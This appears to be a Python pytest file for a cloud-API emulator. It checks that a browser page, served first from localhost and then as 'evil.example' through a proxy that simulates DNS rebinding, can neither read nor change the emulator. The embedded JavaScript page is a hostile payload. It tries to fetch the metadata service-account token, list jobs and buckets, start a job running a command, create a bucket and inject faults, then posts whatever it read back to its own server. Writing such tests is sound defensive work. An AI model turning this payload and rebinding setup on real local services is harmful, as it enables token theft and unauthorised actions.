"""A web page in the browser of whoever runs an emulator: a real browser, which hides nothing.

The page comes from this machine, so that no rule of the browser's about strangers in the local
network stands before those of the emulator. Then it comes from ``evil.example``, through a proxy
that does what a name server that changes its mind does: that name is the page's own server first,
and then what the page wants to talk to. The browser takes both for one place (DNS rebinding).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from urllib.error import HTTPError
from urllib.request import ProxyHandler, Request, build_opener

import pytest

from tests.launcher.emulator.running import PARENT, Emulator
from tests.neighbours.places import exchange, listeners, running_job

BROWSER = next(filter(None, map(shutil.which, ("chromium-headless-shell", "chromium"))), None)
TOKEN = "/computeMetadata/v1/instance/service-accounts/default/token"
BUCKET = "/storage/v1/b?project=p"
FAULTS = "/emulator/v1/faults"
TRIES = 10  # in each of the places

# Tries all that a page can do to each of the places, and tells its own server what it could read.
PAGE = """
<body><script>
const job = JSON.stringify({displayName: "evil", jobSpec: {workerPoolSpecs: [{
  machineSpec: {machineType: "a2-highgpu-1g"}, replicaCount: 1,
  containerSpec: {imageUri: "x", command: ["touch", "%(mark)s"]}}]}});
const tries = {
  see: where => fetch(where + "%(token)s", {headers: {"Metadata-Flavor": "Google"}}),
  list: where => fetch(where + "%(parent)s"),
  look: where => fetch(where + "%(bucket)s"),
  blind: where => fetch(where + "%(parent)s", {mode: "no-cors"}),
  start: where => fetch(where + "%(parent)s", {method: "POST", body: job, mode: "no-cors"}),
  begin: where => fetch(where + "%(parent)s", {method: "POST", body: job}),
  make: where => fetch(where + "%(bucket)s", {method: "POST", body: '{"name": "evil-bucket"}',
                                              mode: "no-cors"}),
  spoil: where => fetch(where + "/emulator/v1/faults", {method: "POST", mode: "no-cors",
                                                        body: '{"path": "", "status": 500}'}),
};
function inserted(where, kind) {
  return new Promise(done => {
    const one = document.createElement(kind);
    one.onload = () => done(kind + " loaded");
    one.onerror = () => done("nothing");
    one.src = where + "%(bucket)s";
    document.body.appendChild(one);
  });
}
(async () => {
  const seen = [];
  for (const where of %(places)s) {
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        const answer = await attempt(where);
        seen.push([where, name, answer.type, answer.status, await answer.text()]);
      } catch (error) {
        seen.push([where, name, "error", 0, ""]);
      }
    }
    for (const kind of ["img", "script"])
      seen.push([where, kind, await inserted(where, kind), 0, ""]);
  }
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
})();
</script></body>
"""
Seen = list[tuple[str, str, str, int, str]]


class Site(ThreadingHTTPServer):
    """The page's server, which is the browser's proxy, too.

    Args:
        page: the page.
        behind: where evil.example leads, but for the page.
    """

    def __init__(self, page: str, behind: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = page
        self.behind = behind
        self.seen: Seen | None = None
        self.done = threading.Event()


class _Handler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        if self.path.endswith("/page"):
            self._answer(200, {"Content-Type": "text/html"}, self.server.page.encode())
        else:
            self._rebound()

    def do_POST(self) -> None:
        if self.path.endswith("/seen"):
            self.server.seen = json.loads(self._body())
            self._answer(200, {}, b"")
            self.server.done.set()
        else:
            self._rebound()

    do_OPTIONS = do_DELETE = do_GET

    def _body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def _rebound(self) -> None:
        """Hands the request on, with all headers that the browser sends."""
        *_, path = self.path.split("/", 3)
        body = self._body() if self.command == "POST" else None
        headers = dict(self.headers.items())
        request = Request(f"{self.server.behind}/{path}", body, headers, method=self.command)
        try:
            with build_opener(ProxyHandler({})).open(request, timeout=600) as answer:
                self._answer(answer.status, {}, answer.read())
        except HTTPError as refusal:
            self._answer(refusal.code, {}, refusal.read())

    def _answer(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def _site(page: str, behind: str) -> Iterator[Site]:
    site = Site(page, behind)
    thread = threading.Thread(target=site.serve_forever)
    thread.start()
    try:
        yield site
    finally:
        site.shutdown()
        thread.join()
        site.server_close()


def visit(page: str, places: list[str], mark: Path, behind: str = "") -> Seen:
    """What a page sees of the places, in a browser that is started for it.

    Args:
        page: the page's address; the name may be any with ``behind``, which it leads to.
        places: where the page tries what it can.
        mark: a file that a job of the page's would make.
    """
    assert BROWSER
    filled = {"token": TOKEN, "parent": PARENT, "bucket": BUCKET, "mark": str(mark)}
    with (
        _site(PAGE % {**filled, "places": json.dumps(places)}, behind) as site,
        TemporaryDirectory(ignore_cleanup_errors=True) as profile,
    ):
        own = f"http://127.0.0.1:{site.server_port}"
        command = [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"]
        command += ["--remote-debugging-port=0", f"--user-data-dir={profile}"]
        command += [f"--proxy-server={own}" if behind else "--no-proxy-server"]
        browser = subprocess.Popen(
            [*command, f"{page or own}/page"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,  # the command may be a script, and the browser its child
        )
        try:
            assert site.done.wait(600), "the page has not ended"
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
        assert site.seen is not None
        return site.seen


@pytest.mark.skipif(BROWSER is None, reason="no browser: apt-get install chromium-headless-shell")
def test_a_page_sees_and_does_nothing(tmp_path: Path) -> None:
    emulator = Emulator(tmp_path / "state", "--until-eof", "--open")  # the token would help, too
    try:
        running_job(emulator)
        mark, there = tmp_path / "started", listeners(emulator)
        assert len(there) == 3, "the API, the buckets, a metadata server"
        places = [f"http://{host}:{port}" for host, port in there]
        seen = visit("", places, mark)
        for (_, port), place in zip(there, places, strict=True):
            name = f"http://evil.example:{port}"
            seen += visit(name, [name], mark, behind=place)
        assert len(seen) == 2 * len(there) * TRIES
        for where, attempt, kind, status, text in seen:
            told = status == 403 and "no web pages" in text
            assert told or kind in ("error", "opaque", "nothing"), (where, attempt, kind, text)
        # Nor has it done anything that it could not see.
        assert len(emulator.http.get(PARENT).json()["customJobs"]) == 1 and not mark.exists()
        said = [exchange(one, "GET", path) for one in there for path in (BUCKET, FAULTS)]
        assert any("storage#buckets" in answer and "items" not in answer for answer in said)
        assert any('"rules":[]' in answer for answer in said)
    finally:
        assert emulator.stop() == 0
